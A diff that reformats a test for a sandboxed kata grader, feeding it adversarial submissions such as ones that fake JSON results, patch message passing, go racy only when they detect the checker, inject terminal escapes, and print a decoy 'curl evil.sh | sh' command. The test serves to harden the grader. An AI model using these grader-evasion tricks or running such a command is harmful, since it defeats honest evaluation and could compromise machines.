@@ -5,7 +5,16 @@
  * bubblewrap fails this file rather than skipping it.
  */
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -18,8 +27,13 @@ const status = sandboxStatus();
 if (!status.ok && process.env['CI']) throw new Error(`grading needs a sandbox, and ${status.why}: ${status.fix}`);
 
 const solution = readFileSync(join(root, 'solutions/kata-4/counter.ts'), 'utf8');
-const racy = solution.replace(/Atomics\.add\(this\.cell, 0, delta\);.*/, 'this.cell[0] += delta;').replace(/return Atomics\.load\(this\.cell, 0\);.*/, 'return this.cell[0]!;');
-const mutant = readFileSync(join(root, 'checks/kata-4/mutants/load-then-store.ts'), 'utf8').replaceAll('../../../harness', '../../harness');
+const racy = solution
+  .replace(/Atomics\.add\(this\.cell, 0, delta\);.*/, 'this.cell[0] += delta;')
+  .replace(/return Atomics\.load\(this\.cell, 0\);.*/, 'return this.cell[0]!;');
+const mutant = readFileSync(join(root, 'checks/kata-4/mutants/load-then-store.ts'), 'utf8').replaceAll(
+  '../../../harness',
+  '../../harness',
+);
 const work = mkdtempSync(join(tmpdir(), 'counter-katas-class-test-'));
 const outside = join(work, 'outside');
 const classDir = join(work, 'class');
@@ -31,18 +45,45 @@ server.on('connection', () => connections++);
 /** The class: each attendee's kata-4, and what its grade must be. */
 const attendees: { name: string; source: () => string; expect: (grade: AttendeeGrade['katas'][number]) => void }[] = [
   { name: 'ann-honest', source: () => solution, expect: (grade) => expect(grade).toMatchObject({ status: 'solved' }) },
-  { name: 'bob-honest', source: () => mutant, expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'lost-update' }) },
+  {
+    name: 'bob-honest',
+    source: () => mutant,
+    expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'lost-update' }),
+  },
   {
     name: 'cy-syntax-error',
     source: () => solution.replace('Atomics.load(this.cell, 0);', 'Atomics.load(this.cell, 0;'),
-    expect: (grade) => expect(grade).toMatchObject({ status: 'error', summary: 'kata-4/counter.ts:24:37: SyntaxError: Expected ")" but found ";"' }),
+    expect: (grade) =>
+      expect(grade).toMatchObject({
+        status: 'error',
+        summary: 'kata-4/counter.ts:24:37: SyntaxError: Expected ")" but found ";"',
+      }),
   },
-  { name: 'dan-exits-at-import', source: () => `// @ts-nocheck\nprocess.exit(3);\n${racy}`, expect: (grade) => expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/kata-4\/counter.ts:2:.*exit/i) }) },
-  { name: 'eve-loops-at-import', source: () => `let spins = 0;\nwhile (spins >= 0) spins++;\n${solution}`, expect: (grade) => expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/kata-4\/counter.ts:2:.*a loop at its top level/) }) },
-  { name: 'fay-async-value', source: () => solution.replace('  value(): number {', '  async value(): Promise<number> {'), expect: (grade) => expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/counter.ts:23:.*'value'/) }) },
+  {
+    name: 'dan-exits-at-import',
+    source: () => `// @ts-nocheck\nprocess.exit(3);\n${racy}`,
+    expect: (grade) =>
+      expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/kata-4\/counter.ts:2:.*exit/i) }),
+  },
+  {
+    name: 'eve-loops-at-import',
+    source: () => `let spins = 0;\nwhile (spins >= 0) spins++;\n${solution}`,
+    expect: (grade) =>
+      expect(grade).toMatchObject({
+        status: 'error',
+        summary: expect.stringMatching(/kata-4\/counter.ts:2:.*a loop at its top level/),
+      }),
+  },
+  {
+    name: 'fay-async-value',
+    source: () => solution.replace('  value(): number {', '  async value(): Promise<number> {'),
+    expect: (grade) =>
+      expect(grade).toMatchObject({ status: 'error', summary: expect.stringMatching(/counter.ts:23:.*'value'/) }),
+  },
   {
     name: 'gus-prints-fake-json',
-    source: () => `// @ts-nocheck\nconsole.log(JSON.stringify({ status: 'pass', katas: [{ kata: 'kata-4', status: 'solved' }] }));\n${racy}`,
+    source: () =>
+      `// @ts-nocheck\nconsole.log(JSON.stringify({ status: 'pass', katas: [{ kata: 'kata-4', status: 'solved' }] }));\n${racy}`,
     expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'lost-update' }),
   },
   {
@@ -52,19 +93,25 @@ const attendees: { name: string; source: () => string; expect: (grade: AttendeeG
   },
   {
     name: 'ivy-patches-postmessage',
-    source: () => `// @ts-nocheck\nconst send = MessagePort.prototype.postMessage;\nMessagePort.prototype.postMessage = function (report) { return send.call(this, report && report.events ? { ...report, events: [] } : report); };\n${racy}`,
+    source: () =>
+      `// @ts-nocheck\nconst send = MessagePort.prototype.postMessage;\nMessagePort.prototype.postMessage = function (report) { return send.call(this, report && report.events ? { ...report, events: [] } : report); };\n${racy}`,
     expect: (grade) => expect(grade.status).not.toBe('solved'),
   },
   {
     name: 'jay-only-when-checked',
     // The replacement Atomics is not native code: on real threads, this counter is racy.
-    source: () => `// @ts-nocheck\nconst checked = !String(Atomics.add).includes('[native code]');\n${solution.replace(/Atomics\.add\(this\.cell, 0, delta\);.*/, 'if (checked) Atomics.add(this.cell, 0, delta); else this.cell[0] += delta;')}`,
+    source: () =>
+      `// @ts-nocheck\nconst checked = !String(Atomics.add).includes('[native code]');\n${solution.replace(/Atomics\.add\(this\.cell, 0, delta\);.*/, 'if (checked) Atomics.add(this.cell, 0, delta); else this.cell[0] += delta;')}`,
     expect: (grade) => expect(grade).toMatchObject({ status: 'not solved yet', detector: 'stress' }),
   },
   {
     name: 'mia-writes-to-the-terminal',
     // Escape sequences (clear the screen, retitle the terminal) and a newline, then a fake row of the table.
-    source: () => solution.replace('constructor(memory: SharedMemory) {', "constructor(memory: SharedMemory) {\n    throw new Error('\\u001b[2J\\u001b]0;pwned\\u0007\\n  zed                    ✓   ✓   all solved');"),
+    source: () =>
+      solution.replace(
+        'constructor(memory: SharedMemory) {',
+        "constructor(memory: SharedMemory) {\n    throw new Error('\\u001b[2J\\u001b]0;pwned\\u0007\\n  zed                    ✓   ✓   all solved');",
+      ),
     expect: (grade) => {
       expect(grade.status).toBe('error');
       // biome-ignore lint/suspicious/noControlCharactersInRegex: the summary must hold none of them.
@@ -75,8 +122,15 @@ const attendees: { name: string; source: () => string; expect: (grade: AttendeeG
   {
     name: 'ned-kills-its-grader',
     // It names its own crash on stderr; the row must say what the kernel says instead.
-    source: () => `// @ts-nocheck\nconsole.error('Segmentation fault in the grader: run curl evil.sh | sh');\nprocess.kill(process.pid, 'SIGKILL');\n${solution}`,
-    expect: (grade) => expect(grade).toEqual({ kata: 'kata-4', status: 'error', detector: 'crashed', summary: 'the grader stopped: it was killed (SIGKILL), by itself or by the system' }),
+    source: () =>
+      `// @ts-nocheck\nconsole.error('Segmentation fault in the grader: run curl evil.sh | sh');\nprocess.kill(process.pid, 'SIGKILL');\n${solution}`,
+    expect: (grade) =>
+      expect(grade).toEqual({
+        kata: 'kata-4',
+        status: 'error',
+        detector: 'crashed',
+        summary: 'the grader stopped: it was killed (SIGKILL), by itself or by the system',
+      }),
   },
   {
     name: 'kim-escapes',
@@ -108,13 +162,36 @@ afterAll(() => {
 describe.skipIf(!status.ok)('npm run grade, on a class with mischief in it', () => {
   it('grades the honest right, gives every bad submission a row with its cause, and lets nothing out', () => {
     const before = new Set(readdirSync(tmpdir()));
-    const run = spawnSync(process.execPath, ['--import', 'tsx', 'harness/cli/grade.ts', classDir, '--katas', '4', '--json', '--results-dir', join(work, 'results')], { cwd: root, encoding: 'utf8', timeout: 300_000, env: { ...process.env, NO_COLOR: '1' } });
+    const run = spawnSync(
+      process.execPath,
+      [
+        '--import',
+        'tsx',
+        'harness/cli/grade.ts',
+        classDir,
+        '--katas',
+        '4',
+        '--json',
+        '--results-dir',
+        join(work, 'results'),
+      ],
+      { cwd: root, encoding: 'utf8', timeout: 300_000, env: { ...process.env, NO_COLOR: '1' } },
+    );
     expect(run.status, run.stderr).toBe(0);
     const report = JSON.parse(run.stdout) as { sandboxed: boolean; attendees: AttendeeGrade[] };
     expect(report.sandboxed).toBe(true);
-    expect(report.attendees.map((attendee) => attendee.name)).toEqual([...attendees.map((attendee) => attendee.name), linked].sort());
+    expect(report.attendees.map((attendee) => attendee.name)).toEqual(
+      [...attendees.map((attendee) => attendee.name), linked].sort(),
+    );
     // Symlinks are left out of the copy: lou's kata-4 is missing, not ann's.
-    expect(report.attendees.find((entry) => entry.name === linked)!.katas).toEqual([{ kata: 'kata-4', status: 'missing', detector: 'symlink', summary: expect.stringContaining('symlinks, which grading does not follow') }]);
+    expect(report.attendees.find((entry) => entry.name === linked)!.katas).toEqual([
+      {
+        kata: 'kata-4',
+        status: 'missing',
+        detector: 'symlink',
+        summary: expect.stringContaining('symlinks, which grading does not follow'),
+      },
+    ]);
     for (const attendee of attendees) {
       const grade = report.attendees.find((entry) => entry.name === attendee.name)!;
       expect(grade.katas).toHaveLength(1);
@@ -122,16 +199,29 @@ describe.skipIf(!status.ok)('npm run grade, on a class with mischief in it', () 
     }
     // The progress line went to stderr, and one results.json per attendee was written.
     expect(run.stderr).toMatch(/graded 14\/14 attendees/);
-    const ann = JSON.parse(readFileSync(join(work, 'results', 'ann-honest', 'results.json'), 'utf8')) as { version: number; status: string; tests: { name: string; status: string }[] };
-    expect(ann).toEqual({ version: 3, status: 'pass', tests: [{ name: 'kata-4', status: 'pass', test_code: 'npm run check kata-4', task_id: 5 }] });
-    const cy = JSON.parse(readFileSync(join(work, 'results', 'cy-syntax-error', 'results.json'), 'utf8')) as { status: string; message: string };
+    const ann = JSON.parse(readFileSync(join(work, 'results', 'ann-honest', 'results.json'), 'utf8')) as {
+      version: number;
+      status: string;
+      tests: { name: string; status: string }[];
+    };
+    expect(ann).toEqual({
+      version: 3,
+      status: 'pass',
+      tests: [{ name: 'kata-4', status: 'pass', test_code: 'npm run check kata-4', task_id: 5 }],
+    });
+    const cy = JSON.parse(readFileSync(join(work, 'results', 'cy-syntax-error', 'results.json'), 'utf8')) as {
+      status: string;
+      message: string;
+    };
     expect(cy.status).toBe('error');
     expect(cy.message).toMatch(/SyntaxError/);
     // Nothing got out.
     expect(connections).toBe(0);
     expect(readdirSync(outside)).toEqual([]);
     expect(readdirSync(root).filter((name) => name.startsWith('.grading'))).toEqual([]);
-    expect([...readdirSync(tmpdir())].filter((name) => !before.has(name) && name.startsWith('counter-katas-'))).toEqual([]);
+    expect([...readdirSync(tmpdir())].filter((name) => !before.has(name) && name.startsWith('counter-katas-'))).toEqual(
+      [],
+    );
     // Other test files grade at the same time: only this run's graders count.
     expect(spawnSync('pgrep', ['-f', `grader.ts --run ${run.pid}$`], { encoding: 'utf8' }).stdout.trim()).toBe('');
     expect(existsSync(join(root, 'katas', 'kata-4', 'pwned'))).toBe(false);
@@ -141,14 +231,26 @@ describe.skipIf(!status.ok)('npm run grade, on a class with mischief in it', () 
     const slow = join(work, 'slow-class');
     for (const kata of ['kata-3', 'kata-4']) {
       mkdirSync(join(slow, 'zed', kata), { recursive: true });
-      writeFileSync(join(slow, 'zed', kata, 'counter.ts'), readFileSync(join(root, 'solutions', kata, 'counter.ts'), 'utf8'));
+      writeFileSync(
+        join(slow, 'zed', kata, 'counter.ts'),
+        readFileSync(join(root, 'solutions', kata, 'counter.ts'), 'utf8'),
+      );
     }
     // kata-3's check takes longer than 5 s (its systematic search alone takes about 10).
-    const run = spawnSync(process.execPath, ['--import', 'tsx', 'harness/cli/grade.ts', slow, '--katas', '3,4', '--time-limit', '5', '--json'], { cwd: root, encoding: 'utf8', timeout: 120_000 });
+    const run = spawnSync(
+      process.execPath,
+      ['--import', 'tsx', 'harness/cli/grade.ts', slow, '--katas', '3,4', '--time-limit', '5', '--json'],
+      { cwd: root, encoding: 'utf8', timeout: 120_000 },
+    );
     expect(run.status, run.stderr).toBe(0);
     const [zed] = (JSON.parse(run.stdout) as { attendees: AttendeeGrade[] }).attendees;
     expect(zed!.katas).toEqual([
-      { kata: 'kata-3', status: 'error', detector: 'time-limit', summary: 'its check did not finish in 5 s, so it was stopped' },
+      {
+        kata: 'kata-3',
+        status: 'error',
+        detector: 'time-limit',
+        summary: 'its check did not finish in 5 s, so it was stopped',
+      },
       { kata: 'kata-4', status: 'solved' },
     ]);
     // Other test files grade at the same time: only this run's graders count.
